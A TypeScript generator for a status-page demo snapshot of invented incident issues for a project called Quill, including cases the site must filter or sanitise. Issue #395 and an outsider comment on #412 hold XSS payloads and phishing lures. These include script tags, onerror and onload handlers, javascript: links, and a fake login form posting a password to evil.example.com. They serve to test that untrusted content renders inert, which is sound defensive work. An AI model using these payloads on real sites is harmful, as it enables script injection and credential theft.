/**
 * Generates the demo snapshot (src/demo/snapshot.json): a year of a believable project's
 * incidents, covering every case the site handles — and the ones it must refuse (an outsider's
 * incident, an outsider's comment, an XSS attempt, an embargoed security issue, a pull request).
 * Generated relative to the time it is taken, so the demo always looks live; deterministic for a
 * given time (tests pass a fixed one with SITREP_NOW).
 */
import { type FormField, INCIDENT_FIELDS, MAINTENANCE_FIELDS, POSTMORTEM_FIELDS } from '../lib/form-fields.ts';
import { SNAPSHOT_SCHEMA_VERSION, type SnapshotInput } from '../lib/schema/snapshot.ts';

type IssueInput = SnapshotInput['issues'][number];
type Comment = IssueInput['comments'][number];
type Event = IssueInput['events'][number];

const MIN = 60_000;
const HOUR = 60 * MIN;
const DAY = 24 * HOUR;
const REPO = 'quill-lang/quill';
/** The clock of one demo: `at(ms)` is the time `ms` before the snapshot is taken. */
type At = (msBeforeTaken: number) => string;
const clockAt =
  (takenAtMs: number): At =>
  (msBeforeTaken) =>
    new Date(takenAtMs - msBeforeTaken).toISOString().replace('.000Z', 'Z');
const after = (iso: string, ms: number): string => new Date(new Date(iso).getTime() + ms).toISOString().replace('.000Z', 'Z');

const MAINTAINERS = ['ada-l', 'linus-q', 'grace-h', 'mo-sato'] as const;
const trusted = (login: string) => ({ login, trusted: true });
const outsider = (login: string) => ({ login, trusted: false });

/** The demo's components (src/demo/status.yml): name → id, as a component label names it. */
const DEMO_COMPONENT_IDS = {
  Website: 'website',
  Documentation: 'docs',
  Playground: 'playground',
  CLI: 'cli',
  'npm packages': 'npm-packages',
  'Editor extension': 'editor-extension',
  Examples: 'examples',
} as const;
type DemoComponent = keyof typeof DEMO_COMPONENT_IDS;

/** An issue-form body as GitHub renders it (`### <label>`, a blank line, the value), headings from the shared field definitions. */
function formBody(sections: readonly (readonly [FormField, string])[]): string {
  return sections.map(([field, value]) => `### ${field.label}\n\n${value}`).join('\n\n');
}

/** `2026-11-21 14:00`, as a maintainer types a window into the maintenance form. */
const windowTime = (iso: string): string => iso.replace('T', ' ').replace(/:00Z$/, '');

function maintenanceBody(start: string, end: string, components: readonly [string, boolean][], impact: string): string {
  const f = MAINTENANCE_FIELDS;
  return formBody([
    [f.start, windowTime(start)],
    [f.end, windowTime(end)],
    [f.components, components.map(([name, ticked]) => `- [${ticked ? 'X' : ' '}] ${name}`).join('\n')],
    [f.impact, impact],
  ]);
}

function form(fields: {
  severity: string;
  components: string[];
  broken: string;
  affected?: string | undefined;
  workaround?: string | undefined;
  eta?: string | undefined;
  upstream?: string | undefined;
}): string {
  const all = Object.keys(DEMO_COMPONENT_IDS);
  const severity =
    {
      P0: 'P0 — Extreme or total interruption, no reasonable workaround',
      P1: 'P1 — Major degradation, a workaround may exist',
      P2: 'P2 — Minor degradation with a workaround, or contributors only',
    }[fields.severity] ?? fields.severity;
  const f = INCIDENT_FIELDS;
  return formBody([
    [f.severity, severity],
    [f.components, all.map((c) => `- [${fields.components.includes(c) ? 'X' : ' '}] ${c}`).join('\n')],
    [f.broken, fields.broken],
    [f.affected, fields.affected ?? '_No response_'],
    [f.workaround, fields.workaround ?? '_No response_'],
    [f.eta, fields.eta ?? '_No response_'],
    [f.upstream, fields.upstream ?? '_No response_'],
  ]);
}

interface Spec {
  number: number;
  title: string;
  body: string | null;
  opened: string;
  author?: { login: string; trusted: boolean };
  labels: string[];
  assignees?: string[];
  /** [offset from opened, author, body] */
  comments?: [number, { login: string; trusted: boolean }, string][];
  /** [offset from opened, type, actor, extra] */
  events?: [number, Event['type'], { login: string; trusted: boolean }, Partial<Event>?][];
  closed?: { after: number; reason: 'completed' | 'not_planned'; by?: string };
  isPullRequest?: boolean;
}

/** An issue builder: comment and event ids count from the same start for every demo, so it is deterministic. */
function issueBuilder(): (spec: Spec) => IssueInput {
  let nextId = 9_000_000;
  const id = (): number => (nextId += 17);
  return (spec) => buildIssue(spec, id);
}

function buildIssue(spec: Spec, id: () => number): IssueInput {
  const author = spec.author ?? trusted('ada-l');
  const comments: Comment[] = (spec.comments ?? []).map(([offset, who, body]) => {
    const cid = id();
    return {
      id: cid,
      author: who,
      body,
      createdAt: after(spec.opened, offset),
      updatedAt: after(spec.opened, offset),
      url: `https://github.com/${REPO}/issues/${spec.number}#issuecomment-${cid}`,
    };
  });
  const events: Event[] = (spec.events ?? []).map(([offset, type, actor, extra]) => ({
    id: id(),
    type,
    actor,
    createdAt: after(spec.opened, offset),
    ...extra,
  }));
  if (spec.closed) {
    events.push({
      id: id(),
      type: 'closed',
      actor: trusted(spec.closed.by ?? 'ada-l'),
      createdAt: after(spec.opened, spec.closed.after),
      stateReason: spec.closed.reason,
    });
  }
  events.sort((a, b) => a.createdAt.localeCompare(b.createdAt));
  const times = [spec.opened, ...comments.map((c) => c.updatedAt), ...events.map((e) => e.createdAt)].sort();
  return {
    number: spec.number,
    title: spec.title,
    body: spec.body,
    url: `https://github.com/${REPO}/${spec.isPullRequest ? 'pull' : 'issues'}/${spec.number}`,
    state: spec.closed ? 'closed' : 'open',
    stateReason: spec.closed ? spec.closed.reason : null,
    labels: spec.labels,
    author,
    assignees: spec.assignees ?? [],
    createdAt: spec.opened,
    updatedAt: times.at(-1) ?? spec.opened,
    closedAt: spec.closed ? after(spec.opened, spec.closed.after) : null,
    isPullRequest: spec.isPullRequest ?? false,
    comments,
    events,
  };
}

/** A routine resolved incident of the past year, varied by its index. */
function pastIncident(
  { at, issue }: { at: At; issue: (spec: Spec) => IssueInput },
  n: number,
  daysAgo: number,
  severity: 'P0' | 'P1' | 'P2',
  component: string,
  label: string,
  title: string,
  broken: string,
  minutesToResolve: number,
): IssueInput {
  const opened = at(daysAgo * DAY + (n % 7) * HOUR);
  const lead = MAINTAINERS[n % MAINTAINERS.length] ?? 'ada-l';
  return issue({
    number: n,
    title,
    body: form({
      severity,
      components: [component],
      broken,
      workaround: severity === 'P0' ? undefined : 'Retry in a few minutes, or use the previous version.',
    }),
    opened,
    labels: ['incident', severity, `component:${label}`],
    assignees: [lead],
    events: [
      [4 * MIN + (n % 5) * MIN, 'assigned', trusted(lead), { assignee: lead }],
      [Math.floor(minutesToResolve / 3) * MIN, 'labeled', trusted(lead), { label: 'identified' }],
    ],
    comments: [
      [
        5 * MIN + (n % 5) * MIN,
        trusted(lead),
        `Status: investigating\n\nWe're looking into reports about this. ${severity === 'P0' ? 'All hands on deck.' : ''}`,
      ],
      [Math.floor(minutesToResolve / 3) * MIN + MIN, trusted(lead), 'Status: identified\n\nWe found the cause and are rolling out a fix.'],
      [minutesToResolve * MIN - 2 * MIN, trusted(lead), 'Status: resolved\n\nThe fix is out and we have confirmed it works. Thanks for your patience.'],
    ],
    closed: { after: minutesToResolve * MIN, reason: 'completed', by: lead },
  });
}

/** The demo snapshot as if synced at `takenAt` (times rounded down to the minute). */
export function generateDemoSnapshot(takenAt: Date): SnapshotInput {
  const at = clockAt(Math.floor(takenAt.getTime() / MIN) * MIN);
  const issue = issueBuilder();
  const issues: IssueInput[] = [];

  // ── Active P0: installs are failing. Several updates, an assignee, an outsider's comment that must not show.
  const p0Opened = at(95 * MIN);
  issues.push(
    issue({
      number: 412,
      title: 'npm install of @quill/cli fails with 404 for new versions',
      body: form({
        severity: 'P0',
        components: ['npm packages', 'CLI'],
        broken:
          '`npm install @quill/cli@latest` fails with `E404 Not Found` for version 4.2.0. The release workflow published the package metadata but the tarballs are missing.',
        affected: 'Everyone installing or upgrading the CLI since 10:25 UTC. Existing installs keep working.',
        eta: 'Within 2 hours',
        upstream: 'Release workflow run #8812',
      }),
      opened: p0Opened,
      labels: ['incident', 'P0', 'component:npm-packages', 'component:cli', 'identified'],
      assignees: ['ada-l', 'linus-q'],
      events: [
        [3 * MIN, 'assigned', trusted('ada-l'), { assignee: 'ada-l' }],
        [4 * MIN, 'assigned', trusted('ada-l'), { assignee: 'linus-q' }],
        [35 * MIN, 'labeled', trusted('linus-q'), { label: 'identified' }],
      ],
      comments: [
        [
          6 * MIN,
          trusted('ada-l'),
          "We're investigating reports that installing the CLI fails with a 404. If you already have the CLI installed you are not affected.",
        ],
        [
          18 * MIN,
          outsider('hype-bot'),
          '**URGENT** all Quill packages are compromised!!! Download the fixed version from [here](https://quill-fix.example.net) <img src=x onerror="alert(\'owned\')">',
        ],
        [
          34 * MIN,
          trusted('linus-q'),
          'Status: identified\n\nThe release job for 4.2.0 timed out after publishing the metadata but before the tarballs. npm now advertises a version it cannot serve. We are asking npm support to unpublish 4.2.0 and re-running the release as 4.2.1.',
        ],
        [
          70 * MIN,
          trusted('ada-l'),
          'Workaround while we fix it: pin the previous version.\n\n```sh\nnpm install @quill/cli@4.1.3\n```\n\nTracking the release fix in #409.\n\nNext update: in 30 minutes',
        ],
      ],
    }),
  );

  // ── Active P1 in monitoring, with a workaround.
  issues.push(
    issue({
      number: 410,
      title: 'Playground cannot run programs that import packages',
      body: form({
        severity: 'P1',
        components: ['Playground'],
        broken: 'Programs that `import` any package fail with "module resolution timed out". Programs without imports run fine.',
        affected: 'Playground users, including the tutorials embedded in the docs.',
        workaround: 'Run the example locally with `quill run`, or remove the import to try the language itself.',
        eta: 'Fix deployed, watching for an hour.',
        upstream: 'https://www.cloudflarestatus.com/incidents/xyz (CDN cache purge delays)',
      }),
      opened: at(7 * HOUR),
      author: trusted('mo-sato'),
      labels: ['incident', 'P1', 'component:playground', 'monitoring'],
      assignees: ['mo-sato'],
      events: [
        [12 * MIN, 'labeled', trusted('mo-sato'), { label: 'investigating' }],
        [2 * HOUR, 'labeled', trusted('mo-sato'), { label: 'identified' }],
        [2 * HOUR, 'unlabeled', trusted('mo-sato'), { label: 'investigating' }],
        [5 * HOUR, 'labeled', trusted('mo-sato'), { label: 'monitoring' }],
        [5 * HOUR, 'unlabeled', trusted('mo-sato'), { label: 'identified' }],
      ],
      comments: [
        [12 * MIN, trusted('mo-sato'), 'Looking into it. The package resolver behind the playground is answering slowly.'],
        [
          2 * HOUR,
          trusted('mo-sato'),
          'Status: identified\n\nOur CDN is serving stale resolver responses after a cache purge failed. Purging again region by region.',
        ],
        [
          5 * HOUR,
          trusted('mo-sato'),
          'Status: monitoring\n\nAll regions purged and resolution times are back to normal. We are watching error rates before closing this.',
        ],
      ],
    }),
  );

  // ── An outsider's issue, labelled `incident` by the issue form: must never appear.
  issues.push(
    issue({
      number: 411,
      title: 'EVERYTHING IS DOWN (not really)',
      body: form({ severity: 'P0', components: ['Website', 'Documentation'], broken: 'I could not load the site once. Also visit my crypto page.' }),
      opened: at(3 * HOUR),
      author: outsider('drive-by-user'),
      labels: ['incident'],
    }),
  );

  // ── An embargoed security incident: kept off the page until the label is removed.
  issues.push(
    issue({
      number: 407,
      title: 'Security: token leak in editor extension telemetry',
      body: form({ severity: 'P1', components: ['Editor extension'], broken: 'Embargoed until the fix ships.' }),
      opened: at(2 * DAY),
      labels: ['incident', 'P1', 'embargoed', 'component:editor-extension'],
    }),
  );

  // ── A pull request carrying the label (the issues API lists PRs too).
  issues.push(
    issue({
      number: 409,
      title: 'Fix release workflow timeout',
      body: 'Fixes the 4.2.0 release.',
      opened: at(60 * MIN),
      labels: ['incident'],
      isPullRequest: true,
    }),
  );

  // ── Resolved 2 days ago, with a post-mortem issue (below).
  issues.push(
    issue({
      number: 402,
      title: 'Docs search returns no results',
      body: form({
        severity: 'P2',
        components: ['Documentation'],
        broken: 'The search box on docs.quill-lang.org returns no results for any query.',
        affected: 'Docs readers.',
        workaround: 'Use the table of contents, or search with your search engine: `site:docs.quill-lang.org`.',
      }),
      opened: at(2 * DAY + 5 * HOUR),
      author: trusted('grace-h'),
      labels: ['incident', 'P2', 'component:docs'],
      assignees: ['grace-h'],
      events: [
        [9 * MIN, 'assigned', trusted('grace-h'), { assignee: 'grace-h' }],
        [40 * MIN, 'labeled', trusted('grace-h'), { label: 'identified' }],
      ],
      comments: [
        [40 * MIN, trusted('grace-h'), 'Status: identified\n\nThe nightly index rebuild produced an empty index after the docs restructure in #398.'],
        [95 * MIN, trusted('grace-h'), 'Re-indexed from the previous build. Search works again; a post-mortem will follow.'],
      ],
      closed: { after: 100 * MIN, reason: 'completed', by: 'grace-h' },
    }),
  );

  // ── A false alarm, withdrawn (closed as not planned) yesterday.
  issues.push(
    issue({
      number: 405,
      title: 'Website down in some regions?',
      body: form({ severity: 'P1', components: ['Website'], broken: 'Several reports of the homepage timing out.' }),
      opened: at(26 * HOUR),
      author: trusted('linus-q'),
      labels: ['incident', 'P1', 'component:website'],
      comments: [
        [
          25 * MIN,
          trusted('linus-q'),
          'False alarm: the reports came from a single ISP having routing problems. The site was up throughout. Closing as not planned.',
        ],
      ],
      closed: { after: 27 * MIN, reason: 'not_planned', by: 'linus-q' },
    }),
  );

  // ── A reopened incident: resolved too early, reopened, resolved again (5 days ago).
  issues.push(
    issue({
      number: 398,
      title: 'Editor extension crashes on startup in VS Code 1.99',
      body: form({
        severity: 'P1',
        components: ['Editor extension'],
        broken: 'The extension host crashes when opening a `.quill` file in VS Code 1.99.',
        workaround: 'Downgrade the extension to 2.8.4 from the Extensions view ("Install another version").',
      }),
      opened: at(5 * DAY + 6 * HOUR),
      labels: ['incident', 'P1', 'component:editor-extension'],
      assignees: ['linus-q'],
      events: [
        [15 * MIN, 'assigned', trusted('ada-l'), { assignee: 'linus-q' }],
        [2 * HOUR, 'closed', trusted('linus-q'), { stateReason: 'completed' }],
        [3 * HOUR, 'reopened', trusted('ada-l')],
        [3 * HOUR + MIN, 'labeled', trusted('ada-l'), { label: 'identified' }],
      ],
      comments: [
        [110 * MIN, trusted('linus-q'), 'Released 2.8.6 with a fix.'],
        [3 * HOUR, trusted('ada-l'), 'Reopening: 2.8.6 still crashes on Windows. The language server binary is built without the new runtime.'],
        [5 * HOUR, trusted('linus-q'), 'Status: resolved\n\n2.8.7 ships the right binaries on every platform. Confirmed on Windows, macOS and Linux.'],
      ],
      closed: { after: 5 * HOUR + 5 * MIN, reason: 'completed', by: 'linus-q' },
    }),
  );

  // ── A maintainer pasting untrusted text: the XSS attempts must render inert.
  issues.push(
    issue({
      number: 395,
      title: 'Examples page shows raw HTML <script>alert("title")</script>',
      body: form({
        severity: 'P2',
        components: ['Examples'],
        broken: [
          'A malicious example submission made it into the gallery. Its content, quoted for the record:',
          '',
          '<script>alert("xss-script")</script>',
          '<img src="x" onerror="alert(\'xss-img\')">',
          '<a href="javascript:alert(\'xss-link\')">click me</a> and [markdown link](javascript:alert(1))',
          '<iframe src="https://evil.example.com/frame"></iframe>',
          '<form action="https://evil.example.com/steal"><input name="password"><button>Log in</button></form>',
          '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:red">overlay</div>',
          '<svg onload="alert(\'xss-svg\')"></svg>',
          '![tracking pixel](data:image/png;base64,iVBORw0KGgo=)',
        ].join('\n'),
        workaround: 'Browse the examples on GitHub instead.',
      }),
      opened: at(9 * DAY),
      labels: ['incident', 'P2', 'component:examples'],
      comments: [[30 * MIN, trusted('ada-l'), 'Removed the submission and added validation to the gallery build. <script>alert("xss-comment")</script>']],
      closed: { after: 45 * MIN, reason: 'completed' },
    }),
  );

  // ── A year of routine incidents (scenarios as data; each component's label from DEMO_COMPONENT_IDS).
  const past: { daysAgo: number; severity: 'P0' | 'P1' | 'P2'; component: DemoComponent; title: string; broken: string; minutes: number }[] = [
    {
      daysAgo: 12,
      severity: 'P2',
      component: 'Documentation',
      title: 'Docs: broken links in the API reference',
      broken: 'Links from the API reference to type definitions return 404.',
      minutes: 95,
    },
    {
      daysAgo: 19,
      severity: 'P1',
      component: 'Playground',
      title: 'Playground: sharing links do not load',
      broken: 'Opening a shared playground link shows an empty editor.',
      minutes: 180,
    },
    {
      daysAgo: 27,
      severity: 'P2',
      component: 'Website',
      title: 'Website: blog RSS feed returns 500',
      broken: 'The blog feed fails for feed readers.',
      minutes: 50,
    },
    {
      daysAgo: 34,
      severity: 'P1',
      component: 'CLI',
      title: 'CLI installer script fails on macOS arm64',
      broken: '`curl | sh` installer downloads the x86_64 binary on Apple Silicon.',
      minutes: 240,
    },
    {
      daysAgo: 41,
      severity: 'P2',
      component: 'Editor extension',
      title: 'Language server slow on large workspaces',
      broken: 'Completions take over 5 s in workspaces with 10k+ files.',
      minutes: 1440,
    },
    {
      daysAgo: 55,
      severity: 'P0',
      component: 'npm packages',
      title: 'Cannot install any @quill package: registry rate limiting',
      broken: 'npm answers 429 for every @quill/* tarball.',
      minutes: 75,
    },
    {
      daysAgo: 63,
      severity: 'P2',
      component: 'Examples',
      title: 'Starter template uses removed API',
      broken: '`quill new --template web` generates code that fails to compile.',
      minutes: 300,
    },
    {
      daysAgo: 71,
      severity: 'P1',
      component: 'Documentation',
      title: 'Docs site returns 503 in Europe',
      broken: 'The docs CDN edge in Frankfurt returns 503.',
      minutes: 65,
    },
    {
      daysAgo: 88,
      severity: 'P2',
      component: 'CLI',
      title: 'CLI `quill fmt` crashes on empty files',
      broken: 'Formatting an empty file panics.',
      minutes: 600,
    },
    {
      daysAgo: 97,
      severity: 'P1',
      component: 'Playground',
      title: 'Playground out of capacity',
      broken: 'Runs are queued for minutes during a conference talk.',
      minutes: 90,
    },
    {
      daysAgo: 121,
      severity: 'P2',
      component: 'Website',
      title: 'Homepage download button points to old release',
      broken: 'The download button links to 3.9.',
      minutes: 30,
    },
    {
      daysAgo: 140,
      severity: 'P0',
      component: 'CLI',
      title: 'Release 4.0.0 binaries fail signature check',
      broken: 'Every platform fails to verify 4.0.0 downloads.',
      minutes: 130,
    },
    {
      daysAgo: 152,
      severity: 'P2',
      component: 'Documentation',
      title: 'Docs dark mode unreadable code blocks',
      broken: 'Code blocks render black on black in dark mode.',
      minutes: 200,
    },
    {
      daysAgo: 175,
      severity: 'P1',
      component: 'npm packages',
      title: 'Types missing from @quill/core 3.8.0',
      broken: 'The published package lacks its .d.ts files.',
      minutes: 150,
    },
    {
      daysAgo: 199,
      severity: 'P2',
      component: 'Editor extension',
      title: 'Syntax highlighting broken for string interpolation',
      broken: 'Highlighting stops after the first `${`.',
      minutes: 2880,
    },
    {
      daysAgo: 233,
      severity: 'P1',
      component: 'Website',
      title: 'Website certificate expired',
      broken: 'Browsers refuse quill-lang.org: the TLS certificate expired.',
      minutes: 55,
    },
    {
      daysAgo: 262,
      severity: 'P2',
      component: 'Playground',
      title: 'Playground loses code on reload',
      broken: 'Unsaved code is lost when the tab reloads.',
      minutes: 400,
    },
    {
      daysAgo: 288,
      severity: 'P2',
      component: 'Examples',
      title: 'Examples gallery images missing',
      broken: 'Thumbnails 404 after the storage migration.',
      minutes: 120,
    },
    { daysAgo: 311, severity: 'P1', component: 'CLI', title: '`quill test` hangs on Windows', broken: 'The test runner never exits on Windows.', minutes: 720 },
    { daysAgo: 330, severity: 'P2', component: 'Documentation', title: 'Docs search slow', broken: 'Search takes 5–10 s.', minutes: 180 },
    {
      daysAgo: 352,
      severity: 'P0',
      component: 'npm packages',
      title: 'npm package @quill/runtime unpublished by mistake',
      broken: 'A cleanup script unpublished @quill/runtime; every install fails.',
      minutes: 110,
    },
  ];
  // Numbers count down with age; days ago spread over the year.
  past.forEach(({ daysAgo, severity, component, title, broken, minutes }, i) => {
    const n = 380 - i * 17;
    issues.push(pastIncident({ at, issue }, n, daysAgo, severity, component, DEMO_COMPONENT_IDS[component], title, broken, minutes));
  });

  // ── Post-mortems: one as an issue (for #402); one as a file, src/demo/postmortems/40.md.
  issues.push(
    issue({
      number: 404,
      title: 'Post-mortem: docs search returned no results (#402)',
      body: formBody([
        [POSTMORTEM_FIELDS.incident, '#402'],
        [POSTMORTEM_FIELDS.summary, 'For 100 minutes the docs search returned no results. Readers could still browse the docs.'],
        [
          POSTMORTEM_FIELDS.timeline,
          [
            '- 07:00 UTC nightly index rebuild publishes an empty index',
            '- 08:55 first report (#402)',
            '- 09:35 cause identified',
            '- 10:35 index restored from the previous build',
          ].join('\n'),
        ],
        [
          POSTMORTEM_FIELDS.rootCause,
          [
            '1. Why did search return nothing? The index was empty.',
            '2. Why was it empty? The indexer found no pages.',
            '3. Why no pages? The docs restructure in #398 moved pages to a new folder.',
            '4. Why was the indexer not updated? Its path is hard-coded, not read from the docs config.',
            '5. Why did nothing catch it? The rebuild has no check that the index is non-empty.',
          ].join('\n'),
        ],
        [
          POSTMORTEM_FIELDS.actionItems,
          [
            '- [x] Read the page folder from the docs config #406',
            '- [ ] Fail the rebuild when the index shrinks by more than half #408',
            '- [ ] Alert on zero-result rate above 20% #413',
          ].join('\n'),
        ],
      ]),
      opened: at(1 * DAY),
      author: trusted('grace-h'),
      labels: ['postmortem'],
    }),
  );

  // ── Maintenance: one upcoming, one done.
  issues.push(
    issue({
      number: 414,
      title: 'Playground infrastructure upgrade',
      body: maintenanceBody(
        after(at(-2 * DAY), 0),
        after(at(-2 * DAY), 2 * HOUR),
        [
          ['Playground', true],
          ['Documentation', false],
        ],
        'The playground will be read-only for up to two hours.',
      ),
      opened: at(3 * HOUR),
      labels: ['maintenance', 'component:playground'],
    }),
  );
  issues.push(
    issue({
      number: 390,
      title: 'Docs hosting migration',
      body: maintenanceBody(at(12 * DAY), after(at(12 * DAY), HOUR), [['Documentation', true]], 'Brief interruptions while DNS switches over.'),
      opened: at(15 * DAY),
      labels: ['maintenance'],
      comments: [[3 * DAY + 70 * MIN, trusted('grace-h'), 'Migration finished without interruptions.']],
      closed: { after: 3 * DAY + 75 * MIN, reason: 'completed' },
    }),
  );

  issues.sort((a, b) => b.number - a.number);
  return {
    schemaVersion: SNAPSHOT_SCHEMA_VERSION,
    takenAt: at(0),
    repository: REPO,
    issues,
    referencedIssues: [
      { number: 406, title: 'Indexer: read page folder from config', state: 'closed', url: `https://github.com/${REPO}/issues/406` },
      { number: 408, title: 'Fail rebuild when the index shrinks', state: 'open', url: `https://github.com/${REPO}/issues/408` },
      { number: 413, title: 'Alert on zero-result searches', state: 'closed', url: `https://github.com/${REPO}/issues/413` },
      { number: 300, title: 'Protect packages from unpublish', state: 'closed', url: `https://github.com/${REPO}/issues/300` },
      { number: 301, title: 'Two-person rule for registry tokens', state: 'open', url: `https://github.com/${REPO}/issues/301` },
    ],
  };
}
